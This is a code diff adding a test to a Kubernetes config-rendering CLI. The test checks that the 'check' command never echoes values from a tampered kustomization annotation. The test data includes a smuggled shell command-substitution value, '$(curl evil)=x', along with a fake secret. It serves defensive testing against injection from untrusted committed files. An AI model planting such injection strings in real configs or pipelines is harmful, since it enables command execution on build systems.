@@ -246,3 +246,25 @@ def test_a_render_with_set_says_so_and_check_names_what_a_plain_render_would_dro
     # A render without --set records nothing.
     assert cli("render", config, "-o", out).exit_code == 0
     assert "gpustack.dev/set" not in (out / "lab" / "kustomization.yaml").read_text()
+
+
+def test_check_names_recorded_set_fields_but_never_a_committed_value(cli, tmp_path: Path) -> None:
+    """The record is committed output, which a pull request may write anything into: check
+    takes field paths out of it, never a value, and nothing that is not a field path."""
+    config = tmp_path / "lab.yaml"
+    config.write_text(CLUSTER)
+    out = tmp_path / "out"
+    assert cli("render", config, "-o", out).exit_code == 0
+    kustomization = out / "lab" / "kustomization.yaml"
+    text = kustomization.read_text()
+    kustomization.write_text(
+        text.replace(
+            "kind: Kustomization\n",
+            "kind: Kustomization\nmetadata:\n  annotations:\n    gpustack.dev/set: "
+            "\"--set images.registry=TOPSECRET --set '$(curl evil)=x'\"\n",
+        )
+    )
+    result = cli("check", config, "-o", out, "-q")
+    assert result.exit_code == 1
+    assert "was rendered with --set images.registry (its kustomization.yaml" in result.stderr
+    assert "TOPSECRET" not in result.output and "curl" not in result.output
